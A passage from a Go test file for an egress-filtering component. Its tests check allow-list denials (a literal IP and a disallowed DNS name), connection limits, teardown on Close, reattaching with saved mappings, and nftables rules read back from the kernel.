	e.expectRefused("93.184.216.34:80", nil)
	ip := e.mustLookup("banner.allowed.test")
	open, err := e.dial(net.JoinHostPort(ip.String(), e.bannerPort))
	if err != nil {
		t.Fatal(err)
	}
	defer open.Close()
	if line, _ := bufio.NewReader(open).ReadString('\n'); line != "220 banner\r\n" {
		t.Fatalf("banner %q", line)
	}
	e.expectDenials(
		Denial{Proto: "dns", Name: "evil.test", Reason: ReasonNameNotAllowed},
		Denial{Proto: "tcp", Addr: "93.184.216.34", Port: 80, Reason: ReasonLiteralAddress},
	)

	if err := e.a.Close(); err != nil {
		t.Fatal(err)
	}
	if err := e.a.Close(); err != nil {
		t.Errorf("second Close: %v", err)
	}
	if _, err := open.Read(make([]byte, 1)); err == nil {
		t.Error("a stream survived Close")
	}
	waitNoEgressGoroutines(t)
	open.Close()
	e.ns.Close()
	deadline := time.Now().Add(30 * time.Second)
	for {
		if _, err := netlink.LinkByName(hostEnd); err != nil {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("the namespace was not destroyed after Close: something still holds it")
		}
		time.Sleep(50 * time.Millisecond)
	}
}

func TestMaxConns(t *testing.T) {
	e := newEnv(t, []string{"banner.allowed.test"}, func(c *envConfig) { c.maxConns = 1 })
	ip := e.mustLookup("banner.allowed.test") // UDP: not a stream
	held, err := e.dial(net.JoinHostPort(ip.String(), e.bannerPort))
	if err != nil {
		t.Fatal(err)
	}
	if line, _ := bufio.NewReader(held).ReadString('\n'); line != "220 banner\r\n" {
		t.Fatalf("banner %q", line)
	}
	// Over the limit: reset at once, counted as dropped, no denial.
	e.expectRefused(net.JoinHostPort(ip.String(), e.bannerPort), []byte("x"))
	if n := e.a.Stats().Dropped; n != 1 {
		t.Errorf("Dropped = %d, want 1", n)
	}
	held.Close()
	<-e.bannerGot
	// The slot comes back.
	deadline := time.Now().Add(waitLong)
	for {
		// Until the held connection's handler has returned its slot, a new
		// one may still be reset (at the dial or at the read).
		line := ""
		c, err := e.dial(net.JoinHostPort(ip.String(), e.bannerPort))
		if err != nil && !isRefusal(err) {
			t.Fatal(err)
		}
		if err == nil {
			line, err = bufio.NewReader(c).ReadString('\n')
			c.Close()
		}
		if line == "220 banner\r\n" {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("slot not released: %q %v", line, err)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

func TestReattach(t *testing.T) {
	e := newEnv(t, []string{"api.allowed.test"})
	ip := e.mustLookup("api.allowed.test")
	p, _ := ParsePolicy([]string{"api.allowed.test"})
	if _, err := e.g.ServeNetns(context.Background(), e.ns.FD(), NetnsOptions{Policy: p}); !errdefs.IsAlreadyExists(err) {
		t.Fatalf("second ServeNetns while the first is open: %v, want already exists", err)
	}
	saved := e.a.Mappings()
	if err := e.a.Close(); err != nil {
		t.Fatal(err)
	}
	// As after a daemon restart: a new namespace, the old mappings.
	a2, err := e.g.ServeNetns(context.Background(), e.ns.FD(), NetnsOptions{Policy: p, Restore: saved, OnDeny: e.denials.add})
	if err != nil {
		t.Fatal(err)
	}
	defer a2.Close()
	c, err := e.dial(net.JoinHostPort(ip.String(), e.httpPort))
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	fmt.Fprintf(c, "GET / HTTP/1.1\r\nHost: api.allowed.test\r\nConnection: close\r\n\r\n")
	if resp, err := http.ReadResponse(bufio.NewReader(c), nil); err != nil || resp.StatusCode != 200 {
		t.Fatalf("cached address after serving again: %v %v", resp, err)
	}
	if diff := cmp.Diff(saved, a2.Mappings(), cmpopts.EquateComparable(netip.Addr{})); diff != "" {
		t.Errorf("mappings (-saved +now):\n%s", diff)
	}
}

// TestRulesAsProgrammed reads the table back from the kernel and compares
// it with ruleSpec, the ruleset as data.
func TestRulesAsProgrammed(t *testing.T) {
	requireKernel(t)
	ns := egresstest.NewNetns(t)
	if err := programRules(ns.FD(), 15001, true, nflogGroup); err != nil {
		t.Fatal(err)
	}
	c, err := nftables.New(nftables.WithNetNSFd(ns.FD()))
	if err != nil {
		t.Fatal(err)
	}
	table := &nftables.Table{Family: nftables.TableFamilyINet, Name: TableName}
	wantNat, wantFilter := ruleSpec(15001, true, nflogGroup)
	for _, ch := range []struct {
		name string
		want [][]expr.Any
	}{{"nat-out", wantNat}, {"filter-out", wantFilter}} {
		rules, err := c.GetRules(table, &nftables.Chain{Name: ch.name, Table: table})
		if err != nil {
			t.Fatal(err)
		}
		var got [][]expr.Any
		for _, r := range rules {
			got = append(got, r.Exprs)
		}
		if diff := cmp.Diff(ch.want, got); diff != "" {
			t.Errorf("chain %s (-spec +kernel):\n%s", ch.name, diff)
		}
	}
	// Programming again replaces the table instead of failing.
	if err := programRules(ns.FD(), 15002, false, nflogGroup); err != nil {
		t.Fatalf("reprogram: %v", err)
	}
}

func TestProbe(t *testing.T) {
	kerneltest.RequireRoot(t)
	if err := Probe(); err != nil {
		t.Fatalf("Probe on a host that has everything: %v", err)
	}
	waitNoEgressGoroutines(t)
}
